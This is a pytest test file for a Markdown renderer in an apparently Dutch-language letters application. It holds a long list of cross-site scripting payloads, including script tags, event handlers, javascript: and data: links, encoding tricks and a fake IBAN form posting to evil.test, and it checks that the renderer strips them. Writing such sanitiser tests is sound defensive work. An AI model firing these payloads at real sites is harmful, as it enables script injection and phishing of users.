from __future__ import annotations

import re
import time

import pytest

from app.letters.markdown import SCHEMES, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import url(//evil.test/x.css)</style>",
    "<p style='background:url(//evil.test)'>tekst</p>",
    "<form action=//evil.test><input name=iban><button>Verder</button></form>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<a href='https://ok.test' onclick=alert(1)>klik</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](java&#10;script:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](javascript&colon;alert(1))",
    "[klik](%6aavascript:alert(1))",
    "[klik](\x01javascript:alert(1))",
    "[klik](<javascript:alert(1)>)",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](file:///etc/passwd)",
    "[klik](blob:https://evil.test/1)",
    "[klik](//evil.test/)",
    "[klik](/afmelden)",
    "[klik](?x=1)",
    "[klik](#main)",
    "[klik](\\\\evil.test)",
    "[klik](http://[::1)",
    '[klik](https://ok.test "x\\" onmouseover=\\"alert(1)")',
    "[klik](https://ok.test\" onmouseover=\"alert(1))",
    "![foto](https://evil.test/pixel.gif)",
    "![foto](x\" onerror=\"alert(1))",
    "[![foto](https://evil.test/p.gif)](https://ok.test)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>**",
    "a\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=\"https://ok.test\" target=_top id=main name=main class=button>klik</a>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_the_allowed_tags_comes_through(attack: str) -> None:
    html = render(attack)

    for tag in re.findall(r"<[^>]*>", html):
        assert re.fullmatch(
            r"</?(p|br|em|strong|ul|ol|li|h3)>|</a>"
            r'|<a( href="(https?|mailto|tel):[^"<>\s]*")? rel="noopener noreferrer">',
            tag,
        ), tag


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_leads_elsewhere_than_an_allowed_kind_of_address(attack: str) -> None:
    for address in re.findall(r'href="([^"]*)"', render(attack)):
        assert address.partition(":")[0].lower() in SCHEMES


def test_no_image_is_ever_loaded() -> None:
    assert "img" not in TAGS
    assert "<img" not in render("![foto](https://evil.test/pixel.gif)")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Dag Sofie,\n\nAlles is in orde.", "<p>Dag Sofie,</p>\n<p>Alles is in orde.</p>\n"),
        ("Kerkstraat 1\n9000 Gent", "<p>Kerkstraat 1<br>\n9000 Gent</p>\n"),
        ("**belangrijk** en *zacht*", "<p><strong>belangrijk</strong> en <em>zacht</em></p>\n"),
        ("- een\n- twee", "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>\n"),
        ("3. drie\n4. vier", '<ol start="3">\n<li>drie</li>\n<li>vier</li>\n</ol>\n'),
        ("# Groot", "<h3>Groot</h3>\n"),
        ("###### Klein", "<h3>Klein</h3>\n"),
        (
            "[site](https://www.groeipakket.be)",
            '<p><a href="https://www.groeipakket.be" rel="noopener noreferrer">site</a></p>\n',
        ),
        (
            "[bel ons](tel:+3291234567)",
            '<p><a href="tel:+3291234567" rel="noopener noreferrer">bel ons</a></p>\n',
        ),
        (
            "<info@fonds.example>",
            '<p><a href="mailto:info@fonds.example" rel="noopener noreferrer">'
            "info@fonds.example</a></p>\n",
        ),
        ("5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>\n"),
        ("", ""),
    ],
)
def test_the_little_markdown_there_is(text: str, html: str) -> None:
    assert render(text) == html


@pytest.mark.parametrize("piece", ["[", "*", "**a", "[a](", "> ", "- ", "<", "&", "![", "_a_"])
def test_a_strange_text_does_not_take_long(piece: str) -> None:
    started = time.monotonic()
    render(piece * 2_000)

    assert time.monotonic() - started < 2
